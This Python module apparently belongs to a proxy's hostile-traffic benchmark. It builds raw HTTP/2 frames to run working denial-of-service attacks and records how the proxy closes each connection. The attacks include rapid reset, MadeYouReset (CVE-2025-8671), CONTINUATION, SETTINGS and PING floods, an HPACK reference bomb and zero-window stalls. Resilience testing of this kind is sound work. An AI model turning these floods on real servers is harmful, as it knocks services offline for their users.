"""Clients of HTTP/2 that mean harm, for `bench hostile`. Each returns how the proxy ended its connection.

Frames are made by hand (RFC 9113 §4.1), as no client makes such ones. Header blocks refer to no dynamic table, but for
the bomb of references.
"""

import itertools
import os
from collections.abc import Callable

import trio

BLOCK = 64 * 1024
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
FIRST_WINDOW = 65535
GET = b"\x82\x86\x84\x41\x09shop.test"
"""GET / at shop.test, by the static table (RFC 7541 appendix A)."""
POST = b"\x83\x86\x84\x41\x09shop.test"
BATCH = 200
"""Frames, or pairs of them, that are made and sent at once."""
CLOSED = "closed"
"""The end of a connection without GOAWAY."""


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream_id.to_bytes(4) + payload


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """A field that is written out (RFC 7541 §6.2), and with `indexed` goes into the table too."""
    return (b"\x40" if indexed else b"\x00") + _text(name) + _text(value)


def _text(data: bytes) -> bytes:
    size, most = len(data), 0x7F
    if size < most:
        return bytes((size,)) + data
    size -= most
    more = bytearray((most,))
    while size > most:
        more.append(0x80 | size & most)
        size >>= 7
    return bytes((*more, size)) + data


def with_path(path: bytes, opening: bytes = b"\x82") -> bytes:
    """A block for another path than `/`."""
    return opening + b"\x86\x04" + _text(path) + b"\x41\x09shop.test"


class Ending:
    """Reads what the proxy sends, for the code of GOAWAY and the windows that it opens."""

    def __init__(self) -> None:
        self.code: int | None = None
        self.window = FIRST_WINDOW
        """Of the connection, for DATA."""
        self.stream_window = FIRST_WINDOW
        self.opened = trio.Event()
        self._held = b""

    def feed(self, data: bytes) -> None:
        held = self._held + data
        while len(held) >= 9 and len(held) >= (end := 9 + int.from_bytes(held[:3])):
            self._take(held[3], held[4], int.from_bytes(held[5:9]), held[9:end])
            held = held[end:]
        self._held = held

    def _take(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        if kind == GOAWAY:
            self.code = int.from_bytes(payload[4:8])
        elif kind == WINDOW_UPDATE:
            if stream_id:
                self.stream_window += int.from_bytes(payload)
            else:
                self.window += int.from_bytes(payload)
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                if int.from_bytes(payload[at : at + 2]) == INITIAL_WINDOW_SIZE:
                    self.stream_window += int.from_bytes(payload[at + 2 : at + 6]) - FIRST_WINDOW
        self.opened.set()

    @property
    def words(self) -> str:
        return CLOSED if self.code is None else f"GOAWAY {self.code}"


async def flood(stream: trio.SocketStream, opening: bytes, block: Callable[[int], bytes]) -> str:
    """Send blocks without end, each of which is given the number of the one before it, and read meanwhile."""
    ending = Ending()

    async def send() -> None:
        try:
            await stream.send_all(PREFACE + frame(SETTINGS, 0, 0) + opening)
            for number in itertools.count():
                await stream.send_all(block(number))
        except trio.BrokenResourceError:
            return  # and read what is left

    async with trio.open_nursery() as nursery:
        nursery.start_soon(send)
        await _read_all(stream, ending)
        nursery.cancel_scope.cancel()
    return ending.words


async def _read_all(stream: trio.SocketStream, ending: Ending) -> None:
    try:
        while data := await stream.receive_some(BLOCK):
            ending.feed(data)
    except trio.BrokenResourceError:
        return


def _streams(number: int) -> range:
    """The numbers of the streams of one batch."""
    return range(2 * BATCH * number + 1, 2 * BATCH * (number + 1), 2)


async def rapid_reset(stream: trio.SocketStream) -> str:
    def block(number: int) -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, each, GET) + frame(RST_STREAM, 0, each, CANCEL.to_bytes(4))
            for each in _streams(number)
        )

    return await flood(stream, b"", block)


async def made_you_reset(stream: trio.SocketStream) -> str:
    """The error of the stream, an increment of 0, has the proxy reset it (CVE-2025-8671)."""

    def block(number: int) -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, each, GET) + frame(WINDOW_UPDATE, 0, each, bytes(4))
            for each in _streams(number)
        )

    return await flood(stream, b"", block)


async def continuations(stream: trio.SocketStream) -> str:
    piece = frame(CONTINUATION, 0, 1, literal(b"x", b"1") * 20) * BATCH
    return await flood(stream, frame(HEADERS, END_STREAM, 1, GET), lambda _: piece)


async def settings(stream: trio.SocketStream) -> str:
    piece = frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + FIRST_WINDOW.to_bytes(4)) * BATCH
    return await flood(stream, b"", lambda _: piece)


async def pings(stream: trio.SocketStream) -> str:
    piece = frame(PING, 0, 0, bytes(8)) * BATCH
    return await flood(stream, b"", lambda _: piece)


async def priorities(stream: trio.SocketStream) -> str:
    piece = b"".join(frame(PRIORITY, 0, each, b"\0\0\0\0\x10") for each in range(3, 2 * BATCH + 3, 2))
    return await flood(stream, b"", lambda _: piece)


async def empty_data(stream: trio.SocketStream) -> str:
    piece = frame(DATA, 0, 1) * BATCH
    return await flood(stream, frame(HEADERS, END_HEADERS, 1, with_path(b"/hostile/sink", b"\x83")), lambda _: piece)


async def references(stream: trio.SocketStream) -> str:
    """An HPACK bomb: each byte of a block stands for a field of 4,000 bytes."""
    opening = frame(
        HEADERS, END_HEADERS | END_STREAM, 1, GET + literal(b"x", bytes(3900).replace(b"\0", b"1"), indexed=True)
    )

    def block(number: int) -> bytes:
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 3, GET + b"\xbe" * 16_000)

    return await flood(stream, opening, block)


async def large_heads(stream: trio.SocketStream) -> str:
    """Fields of 100 KiB, never the same."""

    def block(number: int) -> bytes:
        fields = [literal(b"x-%d" % each, os.urandom(1000).hex().encode()) for each in range(50)]
        pieces = [b"".join(fields[at : at + 7]) for at in range(0, len(fields), 7)]
        last = len(pieces) - 1
        return frame(HEADERS, END_STREAM, 2 * number + 1, GET) + b"".join(
            frame(CONTINUATION, END_HEADERS if at == last else 0, 2 * number + 1, piece)
            for at, piece in enumerate(pieces)
        )

    return await flood(stream, b"", block)


async def zero_windows(stream: trio.SocketStream) -> str:
    """Endless answers on 50 streams, whose windows never open."""
    block = with_path(b"/hostile/endless")
    opening = PREFACE + frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + bytes(4))
    requests = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, each, block) for each in range(1, 101, 2))
    ending = Ending()
    await stream.send_all(opening + requests)
    await _read_all(stream, ending)
    return ending.words


async def endless_upload(stream: trio.SocketStream) -> str:
    """A body without end, as fast as the windows allow."""
    ending = Ending()

    async def send() -> None:
        opening = frame(HEADERS, END_HEADERS, 1, with_path(b"/hostile/sink", b"\x83"))
        piece = bytes(16384)
        try:
            await stream.send_all(PREFACE + frame(SETTINGS, 0, 0) + opening)
            while True:
                room = min(ending.window, ending.stream_window, len(piece))
                if room > 0:
                    ending.window -= room
                    ending.stream_window -= room
                    await stream.send_all(frame(DATA, 0, 1, piece[:room]))
                else:
                    ending.opened = trio.Event()
                    await ending.opened.wait()
        except trio.BrokenResourceError:
            return

    async with trio.open_nursery() as nursery:
        nursery.start_soon(send)
        await _read_all(stream, ending)
        nursery.cancel_scope.cancel()
    return ending.words
